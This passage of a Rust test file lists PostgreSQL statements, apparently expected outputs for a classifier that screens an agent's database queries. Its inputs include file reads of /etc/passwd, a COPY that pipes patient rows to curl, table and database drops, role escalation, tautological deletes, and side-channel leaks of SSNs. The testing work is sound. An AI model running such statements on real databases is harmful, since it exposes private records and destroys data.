//! The classifier against the statements the shipped policy targets and the
//! ways an agent can phrase them.

use std::collections::BTreeSet;

use proptest::prelude::*;
use vigil_sql::classify::{classify, redact_literals, Classification, StatementClass};

/// One table row. Sets are space-separated names. `kinds` starts with the
/// main kind; every other entry must be present, or, written `!kind`,
/// absent. `reads`, `writes` and `functions` must match exactly.
struct Case {
    sql: &'static str,
    kinds: &'static str,
    reads: &'static str,
    writes: &'static str,
    functions: &'static str,
    unbounded: bool,
}

const fn case(
    sql: &'static str,
    kinds: &'static str,
    reads: &'static str,
    writes: &'static str,
    functions: &'static str,
    unbounded: bool,
) -> Case {
    Case {
        sql,
        kinds,
        reads,
        writes,
        functions,
        unbounded,
    }
}

const U: bool = true; // unbounded read
const B: bool = false; // bounded, or no read

#[rustfmt::skip]
const CASES: &[Case] = &[
    // Plain reads, bounded and unbounded.
    case("SELECT * FROM patients", "select read", "patients", "", "", U),
    case("SELECT * FROM patients WHERE id = 1", "select read", "patients", "", "", B),
    case("SELECT * FROM patients LIMIT 10", "select read", "patients", "", "", B),
    case("SELECT * FROM patients FETCH FIRST 10 ROWS ONLY", "select read", "patients", "", "", B),
    case("SELECT * FROM patients LIMIT ALL", "select read", "patients", "", "", U),
    case("SELECT * FROM patients OFFSET 5", "select read", "patients", "", "", U),
    case("SELECT * FROM patients LIMIT $1", "select read", "patients", "", "", U),
    case("SELECT count(*) FROM patients", "select read", "patients", "", "count", B),
    case("SELECT round(avg(age), 1), 1 + max(age) FROM patients", "select read", "patients", "", "avg max round", B),
    case("SELECT count(*) FROM patients GROUP BY ward", "select read", "patients", "", "count", U),
    case("SELECT count(*) OVER () FROM patients", "select read", "patients", "", "count", U),
    case("SELECT string_agg(ssn, ',') FROM patients", "select read", "patients", "", "string_agg", U),
    case("SELECT string_agg(ssn, ',') FROM patients LIMIT 1", "select read", "patients", "", "string_agg", U),
    case("SELECT * FROM patients WHERE true", "select read", "patients", "", "", U),
    case("SELECT * FROM patients WHERE 1 = 1", "select read", "patients", "", "", U),
    case("SELECT 1", "select !read", "", "", "", B),
    case("VALUES (1), (2)", "select !read", "", "", "", B),
    case("SELECT * FROM patients FOR UPDATE", "select row_lock read", "patients", "", "", U),
    // Case, comments, quoting, qualification.
    case("sElEcT * fRoM PaTiEnTs WhErE iD = 1", "select read", "patients", "", "", B),
    case("SELECT * FROM /* x */ patients -- y\n WHERE id = 1", "select read", "patients", "", "", B),
    case("SELECT 1 /* outer /* nested */ DROP TABLE t; */", "select !drop", "", "", "", B),
    case("SELECT 1 -- ; DROP TABLE t", "select !drop", "", "", "", B),
    case("DROP/**/TABLE t", "drop ddl destructive", "", "t", "", B),
    case("SELECT * FROM \"Patients\"", "select read", "Patients", "", "", U),
    case("SELECT * FROM \"patients\"", "select read", "patients", "", "", U),
    case("SELECT * FROM PUBLIC.Patients", "select read", "public.patients", "", "", U),
    case("SELECT * FROM \"public\" . \"patients\"", "select read", "public.patients", "", "", U),
    case("SELECT * FROM \"a.b\"", "select read", "\"a.b\"", "", "", U),
    case("SELECT * FROM db.public.patients", "select read", "db.public.patients", "", "", U),
    case("SELECT $$DROP TABLE t$$, $q$ ' $q$", "select !drop", "", "", "", B),
    case("SELECT E'\\'' || 'it''s' || U&'d\\0061t'", "select", "", "", "", B),
    case("SELECT $1::text, a->>'x', a #> '{a}' FROM t WHERE id = $2", "select read", "t", "", "", B),
    case("SELECT größe FROM maße WHERE id = 1", "select read", "maße", "", "", B),
    // Parentheses, subqueries, joins, set operations.
    case("((SELECT * FROM patients))", "select read", "patients", "", "", U),
    case("SELECT * FROM ((SELECT * FROM patients)) x WHERE x.id = 1", "select read", "patients", "", "", U),
    case("SELECT * FROM t WHERE id IN (SELECT id FROM patients)", "select read", "patients t", "", "", B),
    case("SELECT * FROM t WHERE a = 1 AND EXISTS (SELECT 1 FROM patients)", "select read", "patients t", "", "", B),
    case("SELECT * FROM t WHERE a = ANY (SELECT b FROM patients) AND c = 2", "select read", "patients t", "", "", B),
    case("SELECT (SELECT ssn FROM patients WHERE id = 1) FROM t WHERE id = 2", "select read", "patients t", "", "", B),
    case("SELECT (SELECT string_agg(ssn, ',') FROM patients)", "select read", "patients", "", "string_agg", U),
    case("SELECT * FROM t JOIN patients p ON p.id = t.pid WHERE t.id = 1", "select read", "patients t", "", "", B),
    case("SELECT * FROM t, LATERAL (SELECT * FROM patients WHERE patients.id = t.id) s WHERE t.a = 1", "select read", "patients t", "", "", B),
    case("SELECT * FROM t UNION SELECT * FROM patients WHERE id = 1", "select read", "patients t", "", "", U),
    case("((SELECT * FROM t) UNION (SELECT * FROM patients)) LIMIT 5", "select read", "patients t", "", "", B),
    case("SELECT * FROM unnest(ARRAY(SELECT ssn FROM patients))", "select read", "patients", "", "array unnest", U),
    case("SELECT * FROM \"only\" WHERE id = 1", "select read", "only", "", "", B),
    // CTEs: names in scope are not tables; scope follows PostgreSQL.
    case("WITH x AS (SELECT * FROM patients WHERE id = 1) SELECT * FROM x", "select read", "patients", "", "", B),
    case("WITH patients AS (SELECT * FROM patients) SELECT * FROM patients", "select read", "patients", "", "", U),
    case("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", "select !read", "", "", "", B),
    case("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "select read", "b", "", "", U),
    case("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "select !read", "", "", "", B),
    case("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", "select !read", "", "", "", B),
    case("SELECT * FROM (WITH patients AS (SELECT 1) SELECT * FROM patients) x, patients WHERE x.a = 1", "select read", "patients", "", "", B),
    case("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select delete write cte_write read", "t", "t", "", U),
    case("WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM x", "select update write cte_write", "t", "t", "", B),
    case("WITH x AS (UPDATE t SET a = 1) SELECT 1", "select update write cte_write unbounded_write destructive", "", "t", "", B),
    case("WITH w AS (INSERT INTO log SELECT * FROM patients RETURNING 1) SELECT count(*) FROM w", "select insert write cte_write", "log patients", "log", "count", U),
    case("WITH a AS (WITH b AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM b) SELECT * FROM a", "select delete cte_write", "t", "t", "", B),
    case("WITH x AS (SELECT id FROM u) DELETE FROM t USING x WHERE t.id = x.id", "delete write !cte_write", "u", "t", "", U),
    case("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "insert write !cte_write !read", "", "t", "", B),
    // Data modification.
    case("INSERT INTO t VALUES (1)", "insert write !read", "", "t", "", B),
    case("INSERT INTO t SELECT * FROM patients", "insert write read", "patients", "t", "", U),
    case("INSERT INTO t VALUES (1) RETURNING *", "insert write read", "t", "t", "", B),
    case("INSERT INTO t (a) VALUES (pg_read_file('/etc/passwd'))", "insert write file_access admin", "", "t", "pg_read_file", B),
    case("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = (SELECT b FROM u WHERE u.id = 1)", "insert write read", "u", "t", "", B),
    case("UPDATE t SET a = 1 WHERE id = 1", "update write !unbounded_write !read", "", "t", "", B),
    case("UPDATE t SET a = 1", "update write unbounded_write destructive", "", "t", "", B),
    case("UPDATE t SET a = 1 WHERE 1 = 1", "update write unbounded_write destructive", "", "t", "", B),
    case("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "update write read !unbounded_write", "u", "t", "", B),
    case("UPDATE t SET a = (SELECT ssn FROM patients WHERE id = 1) WHERE id = 2", "update write read", "patients", "t", "", B),
    case("DELETE FROM t WHERE id = 1", "delete write !destructive", "", "t", "", B),
    case("DELETE FROM t", "delete write unbounded_write destructive", "", "t", "", B),
    case("DELETE FROM t USING u WHERE t.id = u.id", "delete write read", "u", "t", "", B),
    case("DELETE FROM t WHERE true RETURNING *", "delete write read unbounded_write", "t", "t", "", U),
    // A WHERE that names columns but selects no rows by them.
    case("DELETE FROM t WHERE id = id", "delete unbounded_write destructive", "", "t", "", B),
    case("DELETE FROM t WHERE id IS NOT NULL", "delete unbounded_write destructive", "", "t", "", B),
    case("DELETE FROM t WHERE id <> -1", "delete unbounded_write destructive", "", "t", "", B),
    case("DELETE FROM t WHERE NOT (id = 5)", "delete unbounded_write destructive", "", "t", "", B),
    case("DELETE FROM t WHERE id = 5 OR true", "delete unbounded_write destructive", "", "t", "", B),
    case("UPDATE t SET a = 1 WHERE a = a AND 1 = 1", "update unbounded_write destructive", "", "t", "", B),
    case("DELETE FROM t USING u WHERE u.x = 1", "delete unbounded_write destructive", "u", "t", "", B),
    case("UPDATE t SET a = 1 FROM u WHERE u.id = u.id", "update unbounded_write destructive", "u", "t", "", B),
    case("UPDATE t SET a = 1 FROM u WHERE id = u.id", "update unbounded_write destructive", "u", "t", "", B),
    // ... and WHEREs that do select.
    case("DELETE FROM t WHERE id = 5 OR id = 6", "delete !unbounded_write !destructive", "", "t", "", B),
    case("DELETE FROM t WHERE lower(email) = $1 AND id IS NOT NULL", "delete !unbounded_write", "", "t", "lower", B),
    case("DELETE FROM t WHERE id IN (1, 2) AND (a BETWEEN 1 AND 3)", "delete !unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE id = (SELECT max(id) FROM t)", "delete unbounded_write", "t", "t", "max", B),
    case("DELETE FROM t WHERE name LIKE 'A%' AND archived", "delete !unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE deleted_at IS NULL", "delete !unbounded_write", "", "t", "", B),
    case("DELETE FROM t AS x WHERE x.id = ANY($1)", "delete !unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)", "delete unbounded_write", "u", "t", "", B),
    // Found by the review: tautologies in other spellings.
    case("DELETE FROM t WHERE id * 0 = 0", "delete unbounded_write destructive", "", "t", "", B),
    case("DELETE FROM t WHERE id - id = 0", "delete unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE (id IS NOT NULL) = true", "delete unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE (id = id) IS TRUE", "delete unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE (id IS NULL) IS FALSE", "delete unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE id = (SELECT id)", "delete unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE id IN (SELECT id)", "delete unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE id = ANY (SELECT id)", "delete unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE id IN (SELECT id FROM t)", "delete unbounded_write", "t", "t", "", B),
    case("DELETE FROM t USING t p2 WHERE t.id = p2.id", "delete unbounded_write", "t", "t", "", B),
    case("DELETE FROM t WHERE ssn LIKE '%'", "delete unbounded_write", "", "t", "", B),
    case("UPDATE t x SET a = NULL FROM t u WHERE x.id = u.id", "update unbounded_write", "t", "t", "", B),
    case("UPDATE t SET note = 'y' WHERE (note = note) IS TRUE", "update unbounded_write", "", "t", "", B),
    case("DELETE FROM t WHERE date_trunc('day', at) = '2024-01-01' AND id IN ($1, $2)", "delete !unbounded_write", "", "t", "date_trunc", B),
    case("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", "merge write read", "u", "t", "", U),
    case("MERGE INTO t USING (SELECT * FROM u WHERE a = 1) s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)", "merge write read", "u", "t", "", B),
    case("SELECT * INTO t FROM patients", "select write create read", "patients", "t", "", U),
    case("SELECT * INTO TEMP t FROM patients WHERE id = 1", "select write create", "patients", "t", "", B),
    case("CREATE TABLE t AS SELECT * FROM patients", "create write ddl read", "patients", "t", "", U),
    case("CREATE TABLE t (a int DEFAULT f(), b text DEFAULT pg_read_file('x'))", "create ddl file_access", "", "t", "f pg_read_file", B),
    case("CREATE TABLE t PARTITION OF p FOR VALUES IN (1)", "create ddl read", "p", "t", "", B),
    case("CREATE TABLE t (LIKE patients)", "create ddl read", "patients", "t", "", B),
    case("CREATE TABLE t (a int REFERENCES patients (id), b int, FOREIGN KEY (b) REFERENCES visits (id))", "create ddl read", "patients visits", "t", "", B),
    case("ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES patients (id)", "alter ddl read", "patients", "t", "", B),
    case("CREATE VIEW v AS SELECT * FROM patients", "create ddl read !write", "patients", "v", "", U),
    case("CREATE MATERIALIZED VIEW v AS SELECT * FROM patients WHERE id < 10", "create ddl write read", "patients", "v", "", B),
    case("TRUNCATE t", "truncate write destructive", "", "t", "", B),
    case("TRUNCATE TABLE t, public.u RESTART IDENTITY", "truncate write destructive", "", "public.u t", "", B),
    // COPY.
    case("COPY t TO STDOUT", "copy copy_out read !file_access", "t", "", "", U),
    case("COPY t (a, b) TO STDOUT WITH (FORMAT csv)", "copy copy_out read", "t", "", "", U),
    case("COPY t TO '/tmp/f'", "copy copy_out file_access admin read", "t", "", "", U),
    case("COPY (SELECT * FROM patients) TO PROGRAM 'curl -d @- x'", "copy copy_out program_execution file_access admin", "patients", "", "", U),
    case("COPY (SELECT * FROM patients WHERE id = 1) TO STDOUT", "copy copy_out read", "patients", "", "", B),
    case("COPY t FROM STDIN", "copy copy_in write !file_access", "", "t", "", B),
    case("COPY t FROM PROGRAM 'cat /etc/passwd'", "copy copy_in write program_execution admin", "", "t", "", B),
    case("COPY public.patients FROM '/tmp/x'", "copy copy_in write file_access", "", "public.patients", "", B),
    // Schema changes.
    case("DROP TABLE t", "drop ddl destructive", "", "t", "", B),
    case("DROP TABLE IF EXISTS t, \"Patients\" CASCADE", "drop ddl destructive", "", "Patients t", "", B),
    case("DROP VIEW v", "drop destructive", "", "v", "", B),
    case("DROP SCHEMA public CASCADE", "drop destructive", "", "public", "", B),
    case("DROP DATABASE d", "drop destructive admin", "", "d", "", B),
    case("DROP FUNCTION f()", "drop destructive", "", "", "", B),
    case("DROP EXTENSION x", "drop destructive admin", "", "", "", B),
    case("DROP POLICY p ON patients", "drop destructive privilege_change", "", "patients", "", B),
    case("ALTER TABLE x DROP COLUMN y", "alter ddl destructive", "", "x", "", B),
    case("ALTER TABLE x DROP CONSTRAINT c", "alter ddl destructive", "", "x", "", B),
    case("ALTER TABLE x ALTER COLUMN c TYPE text USING 'x'", "alter destructive write", "", "x", "", B),
    case("ALTER TABLE x RENAME TO y", "alter ddl !destructive", "", "x", "", B),
    case("ALTER TABLE x RENAME COLUMN a TO b", "alter ddl !destructive", "", "x", "", B),
    case("ALTER TABLE x ADD COLUMN c int DEFAULT f()", "alter ddl !destructive", "", "x", "f", B),
    case("ALTER TABLE x ALTER COLUMN c DROP DEFAULT", "alter ddl !destructive", "", "x", "", B),
    case("ALTER TABLE x DISABLE ROW LEVEL SECURITY", "alter privilege_change", "", "x", "", B),
    case("ALTER TABLE x OWNER TO bob", "alter privilege_change", "", "x", "", B),
    case("ALTER TABLE x DISABLE TRIGGER ALL", "alter admin", "", "x", "", B),
    case("CREATE INDEX i ON patients (ssn)", "create ddl", "", "patients", "", B),
    case("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "create ddl", "", "t", "f", B),
    case("CREATE POLICY p ON patients USING (true)", "create ddl privilege_change", "", "patients", "", B),
    case("COMMENT ON COLUMN public.t.c IS 'x'", "comment ddl", "", "public.t", "", B),
    case("CREATE SCHEMA s", "create ddl", "", "", "", B),
    case("CREATE EXTENSION dblink", "create_extension admin load_library", "", "", "", B),
    case("CREATE FUNCTION f() RETURNS int AS 'x.so', 'f' LANGUAGE c", "create_function load_library admin", "", "", "", B),
    case("CREATE FUNCTION f() RETURNS int LANGUAGE internal AS 'int4in'", "create_function load_library admin", "", "", "", B),
    case("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$", "create_function admin !load_library", "", "", "", B),
    case("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "create_function ddl !admin", "", "", "", B),
    case("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$", "create_function privilege_change", "", "", "", B),
    case("ALTER FUNCTION f() SECURITY DEFINER", "alter privilege_change", "", "", "", B),
    // Roles and privileges.
    case("GRANT SELECT ON patients TO bob", "grant admin privilege_change", "", "patients", "", B),
    case("REVOKE SELECT ON patients FROM bob", "revoke admin privilege_change", "", "patients", "", B),
    case("GRANT ALL ON ALL TABLES IN SCHEMA public TO bob", "grant admin privilege_change", "", "", "", B),
    case("CREATE ROLE bob LOGIN PASSWORD 'x'", "create_role admin privilege_change", "", "", "", B),
    case("CREATE USER bob", "create_role admin privilege_change", "", "", "", B),
    case("ALTER ROLE bob SUPERUSER", "alter_role admin privilege_change", "", "", "", B),
    case("ALTER USER bob WITH PASSWORD 'x'", "alter_role admin privilege_change", "", "", "", B),
    case("DROP ROLE bob", "drop_role admin privilege_change destructive", "", "", "", B),
    case("DROP USER IF EXISTS bob, alice", "drop_role admin privilege_change", "", "", "", B),
    case("SET ROLE admin", "set_role admin privilege_change", "", "", "", B),
    case("SET LOCAL ROLE admin", "set_role admin privilege_change", "", "", "", B),
    case("SET role = 'admin'", "set_role admin privilege_change", "", "", "", B),
    case("SET SESSION AUTHORIZATION postgres", "set_role admin privilege_change", "", "", "", B),
    case("SET ROLE NONE", "set_role role_reset privilege_change !admin", "", "", "", B),
    case("SET SESSION AUTHORIZATION DEFAULT", "set_role role_reset !admin", "", "", "", B),
    case("RESET ROLE", "reset role_reset privilege_change", "", "", "", B),
    case("RESET ALL", "reset role_reset", "", "", "", B),
    case("DISCARD ALL", "discard role_reset", "", "", "", B),
    case("SELECT set_config('role', 'admin', false)", "select set set_role admin privilege_change", "", "", "set_config", B),
    case("SELECT pg_catalog.set_config('search_path', '', false)", "select set !admin", "", "", "pg_catalog.set_config", B),
    // Settings and session housekeeping.
    case("SET search_path = public", "set !admin", "", "", "", B),
    // Another schema before pg_catalog shadows PostgreSQL's own functions.
    case("SET search_path = public, pg_catalog", "set admin", "", "", "", B),
    case("SET search_path TO pg_catalog, public", "set !admin", "", "", "", B),
    case("SET search_path = \"$user\", PG_CATALOG", "set admin", "", "", "", B),
    case("SELECT set_config('search_path', 'public, pg_catalog', false)", "select set admin", "", "", "set_config", B),
    case("SELECT set_config('search_path', 'pg_catalog,public', false)", "select set !admin", "", "", "set_config", B),
    case("SET search_path TO \"$user\", public", "set", "", "", "", B),
    case("SET LOCAL statement_timeout = '5s'", "set", "", "", "", B),
    case("SET extra_float_digits = 3", "set", "", "", "", B),
    case("SET TIME ZONE 'UTC'", "set", "", "", "", B),
    case("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "set", "", "", "", B),
    case("SET session_replication_role = replica", "set admin", "", "", "", B),
    case("SET session_preload_libraries = 'x'", "set load_library admin", "", "", "", B),
    case("SET CONSTRAINTS ALL DEFERRED", "set", "", "", "", B),
    case("SET client_encoding = 'UTF-8'", "set", "", "", "", B),
    case("SET NAMES 'utf8'", "set", "", "", "", B),
    case("RESET search_path", "reset !role_reset", "", "", "", B),
    case("RESET TIME ZONE", "reset", "", "", "", B),
    case("SHOW search_path", "show", "", "", "", B),
    case("SHOW TRANSACTION ISOLATION LEVEL", "show", "", "", "", B),
    case("DISCARD PLANS", "discard !role_reset", "", "", "", B),
    case("BEGIN", "begin", "", "", "", B),
    case("BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE", "begin", "", "", "", B),
    case("START TRANSACTION READ WRITE", "begin", "", "", "", B),
    case("COMMIT", "commit", "", "", "", B),
    case("END", "commit", "", "", "", B),
    case("ROLLBACK", "rollback", "", "", "", B),
    case("ABORT", "rollback", "", "", "", B),
    case("SAVEPOINT s", "savepoint", "", "", "", B),
    case("RELEASE SAVEPOINT s", "release", "", "", "", B),
    case("ROLLBACK TO SAVEPOINT s", "rollback", "", "", "", B),
    case("LISTEN chan", "listen", "", "", "", B),
    case("UNLISTEN *", "unlisten", "", "", "", B),
    case("NOTIFY chan, 'payload'", "notify", "", "", "", B),
    case("DECLARE c CURSOR FOR SELECT * FROM patients", "declare read", "patients", "", "", U),
    case("FETCH FORWARD 100 FROM c", "fetch", "", "", "", B),
    case("FETCH c", "fetch", "", "", "", B),
    case("MOVE NEXT FROM c", "fetch", "", "", "", B),
    case("CLOSE c", "close", "", "", "", B),
    case("DEALLOCATE ALL", "deallocate", "", "", "", B),
    case("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "lock", "", "t", "", B),
    case("VACUUM FULL t", "vacuum maintenance admin", "t", "", "", B),
    case("ANALYZE patients", "analyze maintenance", "patients", "", "", B),
    // Functions and code the gateway cannot see into.
    case("SELECT pg_read_file('/etc/passwd')", "select file_access admin", "", "", "pg_read_file", B),
    case("SELECT pg_catalog.PG_READ_FILE('/etc/passwd')", "select file_access", "", "", "pg_catalog.pg_read_file", B),
    case("SELECT \"pg_read_file\"('/etc/passwd')", "select file_access", "", "", "pg_read_file", B),
    case("SELECT lo_export(1, '/tmp/x')", "select file_access", "", "", "lo_export", B),
    case("SELECT lo_import('/etc/passwd')", "select file_access large_object", "", "", "lo_import", B),
    case("ALTER TABLE patients RENAME COLUMN dob TO born", "alter rename_column", "", "patients", "", B),
    // A computed value sent to a channel that is not a result.
    case("SELECT set_config('application_name', ssn, false) FROM patients WHERE id = 1", "select set channel_write", "patients", "", "set_config", B),
    case("SELECT set_config('application_name', 'x', false)", "select set !channel_write", "", "", "set_config", B),
    case("SELECT set_config('my.var', $1, false)", "select set !channel_write", "", "", "set_config", B),
    case("SELECT pg_notify('c', ssn) FROM patients WHERE id = 1", "select channel_write", "patients", "", "pg_notify", B),
    case("SELECT pg_notify('c', 'done')", "select !channel_write", "", "", "pg_notify", B),
    // Sequence values and advisory-lock keys are read back by anyone.
    case("SELECT setval('s', ascii(substr(ssn, 1, 1))) FROM patients WHERE id = 1", "select channel_write", "patients", "", "ascii setval", B),
    case("SELECT setval('s', 42)", "select !channel_write", "", "", "setval", B),
    case("SELECT pg_advisory_lock(hashtext(ssn)) FROM patients WHERE id = 1", "select channel_write", "patients", "", "hashtext pg_advisory_lock", B),
    case("SELECT pg_try_advisory_xact_lock(7, $1)", "select !channel_write", "", "", "pg_try_advisory_xact_lock", B),
    // Large objects hold data where no column rule follows it.
    case("SELECT lo_from_bytea(0, convert_to(ssn, 'UTF8')) FROM patients WHERE id = 1", "select large_object !stored_code", "patients", "", "convert_to lo_from_bytea", B),
    case("SELECT lo_get(16400)", "select large_object", "", "", "lo_get", B),
    case("SELECT loread(lo_open(16400, 262144), 100)", "select large_object", "", "", "lo_open loread", B),
    // Stored expressions run later, on rows and sessions the statement does
    // not name: any call but a short list of pure ones is reviewed.
    case("ALTER TABLE patients ADD CONSTRAINT c CHECK (lo_from_bytea(0, convert_to(name, 'UTF8')) > 0)", "alter stored_code opaque large_object", "", "patients", "convert_to lo_from_bytea", B),
    case("CREATE TABLE t (a text DEFAULT pg_notify('c', 'x'))", "create stored_code opaque", "", "t", "pg_notify", B),
    case("CREATE TABLE t (a int GENERATED ALWAYS AS (length(md5(b))) STORED, b text)", "create stored_code opaque", "", "t", "length md5", B),
    case("CREATE INDEX i ON patients ((set_config('x.y', ssn, false)))", "create stored_code opaque set", "", "patients", "set_config", B),
    case("CREATE VIEW v AS SELECT pg_notify('c', ssn) FROM patients", "create stored_code opaque", "patients", "v", "pg_notify", U),
    case("ALTER TABLE t ALTER COLUMN a SET DEFAULT txid_current()", "alter stored_code opaque", "", "t", "txid_current", B),
    case("CREATE TABLE t (id uuid DEFAULT gen_random_uuid(), at timestamptz DEFAULT now(), n text CHECK (length(n) < 10))", "create !stored_code !opaque", "", "t", "gen_random_uuid length now", B),
    case("CREATE TABLE t2 AS SELECT md5(name) FROM patients WHERE id = 1", "create !stored_code", "patients", "t2", "md5", B),
    case("CREATE VIEW v AS SELECT count(*), lower(name) FROM patients GROUP BY 2", "create !stored_code", "patients", "v", "count lower", U),
    case("SELECT * FROM pg_ls_dir('.')", "select file_access !read", "", "", "pg_ls_dir", B),
    case("SELECT * FROM patients p, LATERAL pg_stat_file('x') f WHERE p.id = 1", "select file_access read", "patients", "", "pg_stat_file", B),
    case("SELECT pg_file_write('x', 'y', false)", "select file_access", "", "", "pg_file_write", B),
    case("SELECT pg_terminate_backend(123)", "select admin", "", "", "pg_terminate_backend", B),
    case("SELECT query FROM pg_stat_get_activity(NULL)", "select admin", "", "", "pg_stat_get_activity", B),
    case("SELECT query_to_xml('select * from patients', true, false, '')", "select opaque", "", "", "query_to_xml", B),
    case("SELECT dblink_exec('x', 'DROP TABLE t')", "select opaque !drop", "", "", "dblink_exec", B),
    case("SELECT * FROM generate_series(1, 10)", "select !read", "", "", "generate_series", B),
    case("LOAD 'x.so'", "load admin load_library", "", "", "", B),
    case("CALL p()", "call opaque", "", "", "p", B),
    case("CALL s.p(pg_read_file('x'))", "call opaque file_access", "", "", "pg_read_file s.p", B),
    // EXPLAIN runs its statement only with ANALYZE.
    case("EXPLAIN ANALYZE DELETE FROM t", "explain explain_analyze delete write destructive", "", "t", "", B),
    case("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE id = 1", "explain explain_analyze delete write", "", "t", "", B),
    case("EXPLAIN (ANALYSE) DELETE FROM t", "explain explain_analyze delete", "", "t", "", B),
    case("EXPLAIN (ANALYZE 'on') SELECT * FROM patients", "explain explain_analyze select read", "patients", "", "", U),
    case("EXPLAIN (ANALYZE off) DELETE FROM t", "explain !explain_analyze !delete !write read", "t", "", "", B),
    case("EXPLAIN (ANALYZE false, VERBOSE) DELETE FROM t", "explain !explain_analyze !write", "t", "", "", B),
    case("EXPLAIN DELETE FROM t", "explain !explain_analyze !delete !write", "t", "", "", B),
    case("EXPLAIN SELECT * FROM patients", "explain read", "patients", "", "", B),
    case("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "explain explain_analyze select delete cte_write", "t", "t", "", U),
    case("EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM patients", "explain explain_analyze create write", "patients", "x", "", U),
    // Code defined now runs later, out of the classifier's sight.
    case("CREATE FUNCTION vx_rd(f text) RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN pg_read_file(f); END'", "create_function ddl define_code", "", "", "", B),
    case("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "create_function define_code", "", "", "", B),
    case("CREATE OPERATOR |/ (RIGHTARG = text, FUNCTION = pg_read_file)", "create ddl define_code", "", "", "", B),
    case("ALTER FUNCTION pg_catalog.pg_read_file(text) RENAME TO harmless", "alter ddl define_code", "", "", "", B),
    case("ALTER FUNCTION f(int) SET search_path = public", "alter define_code", "", "", "", B),
    case("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION wipe()", "create ddl define_code opaque", "", "t", "wipe", B),
    case("ALTER TABLE t ENABLE TRIGGER tr", "alter define_code admin", "", "t", "", B),
    case("ALTER TABLE t ENABLE ALWAYS RULE r", "alter define_code", "", "t", "", B),
    case("CREATE TYPE pair AS (a int, b text)", "create ddl !define_code", "", "", "", B),
    case("CREATE TYPE mood AS ENUM ('sad', 'ok')", "create !define_code", "", "", "", B),
    // Calls of functions that are not PostgreSQL's own are opaque.
    case("SELECT vx_rd('/etc/hostname')", "select opaque user_function", "", "", "vx_rd", B),
    case("SELECT harmless('/etc/hostname')", "select opaque user_function", "", "", "harmless", B),
    case("SELECT public.lower('x')", "select opaque user_function", "", "", "public.lower", B),
    case("SELECT * FROM public.generate_series(1, 2)", "select opaque user_function", "", "", "public.generate_series", B),
    case("SELECT pg_catalog.lower('x')", "select !opaque !user_function", "", "", "pg_catalog.lower", B),
    case("SELECT lower(name), coalesce(a, b), nullif(a, b), greatest(1, 2), now(), current_user, current_date, length(trim(name)) FROM t WHERE id = 1", "select read !opaque !user_function", "t", "", "coalesce current_date current_user greatest length lower now nullif", B),
    case("SELECT count(*), string_agg(x, ','), row_number() OVER () FROM t WHERE id = 1", "select !opaque", "t", "", "count row_number string_agg", B),
    case("INSERT INTO t (x) VALUES (f_user(1))", "insert write opaque user_function", "", "t", "f_user", B),
    case("CREATE TABLE t2 (x text DEFAULT vx_rd('/etc/passwd'))", "create opaque", "", "t2", "vx_rd", B),
    // MERGE is judged like the UPDATE or DELETE it performs.
    case("MERGE INTO patients p USING (SELECT 1 AS one) s ON true WHEN MATCHED THEN DELETE", "merge write delete unbounded_write destructive", "", "patients", "", B),
    case("MERGE INTO patients p USING (SELECT 1 AS one) s ON s.one = 1 WHEN MATCHED THEN UPDATE SET name = 'x'", "merge update destructive", "", "patients", "", B),
    case("MERGE INTO patients p USING (SELECT 1 AS one) s ON one = 1 WHEN MATCHED THEN DELETE", "merge delete destructive", "", "patients", "", B),
    case("MERGE INTO patients p USING (SELECT 1 AS one) s ON true WHEN MATCHED AND p.id = 7 THEN DELETE", "merge delete !destructive !unbounded_write", "", "patients", "", B),
    case("MERGE INTO patients USING (SELECT 1 AS id) s ON patients.id = s.id WHEN MATCHED THEN UPDATE SET name = 'x' WHEN NOT MATCHED THEN INSERT VALUES (s.id)", "merge update insert !delete !destructive", "", "patients", "", B),
    case("MERGE INTO patients p USING (SELECT 1 AS one) s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)", "merge insert !update !destructive", "", "patients", "", B),
    case("WITH s AS (SELECT 1 AS one) MERGE INTO patients p USING s ON true WHEN MATCHED THEN DELETE", "merge delete destructive", "", "patients", "", B),
    // Found by the review of issue 18.
